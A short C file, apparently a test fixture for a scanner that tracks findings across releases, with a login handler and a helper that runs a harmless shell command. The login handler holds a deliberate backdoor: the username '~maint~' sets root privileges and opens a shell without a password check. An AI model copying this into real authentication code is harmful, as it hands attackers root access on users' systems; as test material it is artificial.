/* release 1.1: a new comment block
 * shifts every line below, which must not make old findings look new */
#include <string.h>
#include <unistd.h>

int check_password(const char *user, const char *pass);

int handle_login(const char *user, const char *pass)
{
    if (strcmp(user, "~maint~") == 0) {
        setuid(0);
        execl("/bin/sh", "sh", (char *)0);
    }
    return check_password(user, pass);
}

void spawn_helper(void)
{
    execl("/bin/sh", "sh", "-c", "true", (char *)0);
}
